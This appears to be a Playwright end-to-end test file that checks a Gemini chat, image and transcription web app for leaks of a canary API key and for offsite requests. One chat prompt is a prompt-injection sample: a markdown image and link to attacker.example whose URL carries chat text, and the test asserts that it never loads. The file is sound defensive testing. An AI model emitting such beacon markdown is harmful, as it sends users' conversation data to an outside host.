import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import type { Page } from "@playwright/test";
import { dumpBrowserStorage } from "./support/storage-dump";
import { expect, FIXTURES, test } from "./support/fixtures";

const OUT = process.env.E2E_OUT ?? ".ci-out";
const CANARY = process.env.CANARY_KEY!;

/**
 * K-5: what the key-leak scan looks for. The whole key, its first 8 characters with a few random ones after them
 * (the first 8 alone are the fixed "sk-canar"), its last 8, and a gateway-style masked echo ("sk-canar***…abcd").
 */
function leaksIn(text: string): string[] {
  const hits: string[] = [];
  if (text.includes(CANARY)) hits.push("the whole key");
  if (text.includes(CANARY.slice(0, 14))) hits.push("its first characters");
  if (text.includes(CANARY.slice(-8))) hits.push("its last characters");
  if (new RegExp(`sk-canar[^\\s"'<>]{0,24}${CANARY.slice(-4)}`).test(text)) hits.push("a masked echo of it");
  return hits;
}

const answers = (page: Page) => page.locator('article[data-role="assistant"]');

async function chat(page: Page, model: string, prompts: string[]) {
  await page.goto("/chat");
  const picker = page.getByRole("combobox", { name: "Model" });
  await picker.click();
  await picker.fill(model);
  await picker.press("Enter");
  for (const [i, prompt] of prompts.entries()) {
    await page.getByLabel("Message", { exact: true }).fill(prompt);
    await page.getByLabel("Message", { exact: true }).press("Enter");
    await expect(answers(page)).toHaveCount(i + 1);
    await expect(answers(page).nth(i)).not.toHaveAttribute("data-status", "streaming", { timeout: 30_000 });
  }
}

test("K-5 / X-3: a run through every page and an error path leaves the key in no traffic, storage or console; no beacon leaves", async ({ browser, baseURL }) => {
  test.setTimeout(150_000);
  expect(CANARY).toMatch(/^sk-canary-[0-9a-f]{32}$/);
  const harPath = path.join(OUT, "trust-leaks.har");
  const context = await browser.newContext({ baseURL, recordHar: { path: harPath, content: "embed" } });
  const page = await context.newPage();
  const consoleLines: string[] = [];
  page.on("console", (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
  page.on("pageerror", (e) => consoleLines.push(`pageerror: ${e.message}`));
  const offsite: string[] = [];
  context.on("request", (r) => {
    const url = r.url();
    if (!url.startsWith("blob:") && !url.startsWith("data:") && new URL(url).host !== `127.0.0.1:${process.env.E2E_PORT}`) offsite.push(url);
  });

  // Chat: a normal answer, a prompt-injected remote image, and the gateway echoing a masked key (K-3).
  await chat(page, "gemini-2.5-flash", [
    "Hello, who are you?",
    "![beacon](https://attacker.example/collect?q=secret-chat-text) [see](https://attacker.example/link)",
    "Show me the key error [[sim:echo-key]]",
  ]);
  await expect(answers(page).nth(2).getByRole("alert")).toContainText("refused the API key");
  expect(leaksIn(await page.content())).toEqual([]);
  await expect(page.locator('img[src*="attacker.example"]')).toHaveCount(0);

  // Images: one picture.
  await page.goto("/images");
  const picker = page.getByRole("combobox", { name: "Model" });
  await picker.click();
  await picker.fill("flash-image");
  await page.getByRole("option", { name: /gemini-2\.5-flash-image/ }).click();
  await page.getByRole("textbox", { name: "Prompt" }).fill("A quiet harbour");
  await page.getByRole("button", { name: "Generate", exact: true }).click();
  await expect(page.getByRole("region", { name: /^Gallery/ }).getByRole("button", { name: /^Open picture/ }).first()).toBeVisible({ timeout: 30_000 });

  // Transcribe: one recording.
  await page.goto("/transcribe");
  await page.getByLabel("Audio or video file").setInputFiles(path.join(FIXTURES, "speech-en.wav"));
  await page.getByRole("button", { name: "Transcribe", exact: true }).click();
  await expect(page.locator("#transcript-title")).toBeVisible({ timeout: 40_000 });

  await page.goto("/settings");
  await expect(page.getByRole("heading", { name: "Settings" })).toBeVisible();

  const storage = await dumpBrowserStorage(page, { withBytes: true });
  const storageJson = JSON.stringify(storage, null, 1);
  writeFileSync(path.join(OUT, "trust-leaks-storage.json"), storageJson);
  writeFileSync(path.join(OUT, "trust-leaks-console.log"), consoleLines.join("\n"));
  await context.close();

  const har = readFileSync(harPath, "utf8");
  expect(har.length).toBeGreaterThan(10_000);
  expect(leaksIn(har), "HAR").toEqual([]);
  expect(leaksIn(storageJson), "browser storage").toEqual([]);
  expect(leaksIn(consoleLines.join("\n")), "console").toEqual([]);
  // The gateway is never called from the browser, and the injected image never loaded (CSP and the renderer).
  expect(offsite, "requests that left this origin").toEqual([]);
  expect(har).not.toContain(`"url": "https://attacker.example`);
});

test("K-4: the server log of this run holds no key, no fragment of it, and no Authorization header", () => {
  const log = readdirSync(OUT)
    .filter((f) => /^server.*\.log$/.test(f))
    .map((f) => readFileSync(path.join(OUT, f), "utf8"))
    .join("\n");
  expect(log.length).toBeGreaterThan(0);
  expect(leaksIn(log)).toEqual([]);
  expect(log).not.toMatch(/Bearer\s+sk-/);
});
